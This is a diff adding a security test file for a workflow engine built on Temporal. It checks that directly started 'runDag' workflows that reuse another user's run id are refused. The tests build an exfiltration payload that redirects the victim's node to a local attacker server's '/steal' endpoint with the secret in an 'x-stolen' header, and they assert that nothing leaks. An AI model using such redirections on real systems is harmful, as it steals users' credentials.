@@ -1,0 +1,147 @@
+/**
+ * The worker trusts nothing that arrives through Temporal (issue 10, property 3), tried as an attacker who can
+ * reach Temporal: `runDag` started straight through a Temporal client with another user's run id.
+ */
+import { randomUUID } from "node:crypto";
+import { WorkflowFailedError } from "@temporalio/client";
+import { beforeAll, describe, expect, it } from "vitest";
+import type { WorkflowSnapshot } from "../../core/snapshot.ts";
+import { TEST_TASK_QUEUE } from "../../test/env.ts";
+import {
+  buildWorkflow,
+  call,
+  json,
+  registerUser,
+  setupApp,
+  startUpstream,
+  type TestContext,
+  type Upstream,
+  waitForRun,
+} from "../../test/helpers.ts";
+
+const SECRET = "alice-secret-value-7f3a91";
+
+let t: TestContext;
+let alice: Awaited<ReturnType<typeof registerUser>>;
+let victimServer: Upstream;
+let attackerServer: Upstream;
+let victim: { workflowId: string; runId: string; snapshot: WorkflowSnapshot; input: unknown };
+
+/** Everything Weft recorded for the run: its row and its node executions. */
+async function recorded(runId: string) {
+  const [run] = await t
+    .sql`SELECT status, output, error, started_at, finished_at FROM workflow_runs WHERE id = ${runId}`;
+  const executions = await t.sql`SELECT id, node_id, status, attempt, input, output, error, finished_at
+    FROM node_executions WHERE run_id = ${runId} ORDER BY id`;
+  return { run, executions };
+}
+
+/**
+ * The types and messages along a failure's cause chain (workflow failure → activity failure → what the activity
+ * threw; a failed node is reported by runDag as NodeFailed with the node's message).
+ */
+function failureTypes(err: unknown): string {
+  const out: string[] = [];
+  for (
+    let e = err as { type?: string; name?: string; message?: string; cause?: unknown } | undefined;
+    e;
+    e = e.cause as never
+  ) {
+    out.push(`${e.type ?? e.name}: ${e.message}`);
+  }
+  return out.join("\n");
+}
+
+/** Starts runDag through Temporal as an attacker would and waits for it to end; returns the failure, if any. */
+async function attack(workflowId: string, snapshot: WorkflowSnapshot, input: unknown = victim.input) {
+  const handle = await t.temporal.workflow.start("runDag", {
+    taskQueue: TEST_TASK_QUEUE,
+    workflowId,
+    args: [{ runId: victim.runId, input, snapshot }],
+  });
+  return await handle.result().then(() => null, (err) => err);
+}
+
+/** The victim's graph with its one node sending the secret to the attacker's server instead. */
+function exfiltratingSnapshot(): WorkflowSnapshot {
+  const snapshot = structuredClone(victim.snapshot);
+  snapshot.nodes[0].config = { url: `${attackerServer.url}/steal`, headers: { "x-stolen": "{{secrets.API_KEY}}" } };
+  return snapshot;
+}
+
+beforeAll(async () => {
+  t = await setupApp();
+  alice = await registerUser(t.app, "alice");
+  victimServer = await startUpstream((_req, _body, res) => json(res, 200, { ok: true }));
+  attackerServer = await startUpstream((_req, _body, res) => json(res, 200, { ok: true }));
+  expect(
+    (await call(t.app, "POST", "/api/secrets", { token: alice.token, body: { name: "API_KEY", value: SECRET } }))
+      .status,
+  ).toBe(201);
+  const { workflowId } = await buildWorkflow(t.app, alice.token, [
+    { name: "call", config: { url: `${victimServer.url}/api`, headers: { authorization: "{{secrets.API_KEY}}" } } },
+  ]);
+  const started = await call(t.app, "POST", `/api/workflows/${workflowId}/execute`, {
+    token: alice.token,
+    body: { input: { order: 1 } },
+  });
+  expect(started.status).toBe(202);
+  const run = await waitForRun(t.app, alice.token, workflowId, started.body.run_id);
+  expect(run.status).toBe("succeeded");
+  const [row] = await t.sql`SELECT snapshot, input FROM workflow_runs WHERE id = ${run.id}`;
+  victim = { workflowId, runId: run.id, snapshot: row.snapshot as WorkflowSnapshot, input: row.input };
+  expect(victimServer.requests.length).toBe(1);
+  expect(victimServer.requests[0].headers.authorization).toBe(SECRET);
+  return async () => {
+    await victimServer.close();
+    await attackerServer.close();
+  };
+});
+
+describe("runDag started straight through Temporal", () => {
+  it("with another user's run id under a workflow id Weft did not give it: no secret, nothing written", async () => {
+    const before = await recorded(victim.runId);
+    const failure = await attack(`attacker-${randomUUID()}`, exfiltratingSnapshot());
+    expect(failure).toBeInstanceOf(WorkflowFailedError);
+    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
+    expect(attackerServer.requests).toEqual([]);
+    expect(victimServer.requests.length).toBe(1);
+    expect(await recorded(victim.runId)).toEqual(before);
+  });
+
+  it("again under the finished run's own workflow id, with a changed graph: refused, nothing changed", async () => {
+    const before = await recorded(victim.runId);
+    const failure = await attack(`weft-run-${victim.runId}`, exfiltratingSnapshot());
+    expect(failure).toBeInstanceOf(WorkflowFailedError);
+    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
+    expect(attackerServer.requests).toEqual([]);
+    expect(await recorded(victim.runId)).toEqual(before);
+  });
+
+  it("a second start of the finished run with its own graph reaches no secret and overwrites nothing", async () => {
+    const before = await recorded(victim.runId);
+    const failure = await attack(`weft-run-${victim.runId}`, victim.snapshot);
+    expect(failure).toBeInstanceOf(WorkflowFailedError);
+    expect(victimServer.requests.length).toBe(1);
+    expect(attackerServer.requests).toEqual([]);
+    expect(await recorded(victim.runId)).toEqual(before);
+  });
+
+  it("a changed run input is refused before any node runs", async () => {
+    const before = await recorded(victim.runId);
+    const failure = await attack(`weft-run-${victim.runId}`, victim.snapshot, { order: 2, to: attackerServer.url });
+    expect(failure).toBeInstanceOf(WorkflowFailedError);
+    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
+    expect(victimServer.requests.length).toBe(1);
+    expect(await recorded(victim.runId)).toEqual(before);
+  });
+
+  it("the victim's own runs still work afterwards", async () => {
+    const again = await call(t.app, "POST", `/api/workflows/${victim.workflowId}/execute`, {
+      token: alice.token,
+      body: { input: { order: 3 } },
+    });
+    expect((await waitForRun(t.app, alice.token, victim.workflowId, again.body.run_id)).status).toBe("succeeded");
+    expect(victimServer.requests.length).toBe(2);
+  });
+});
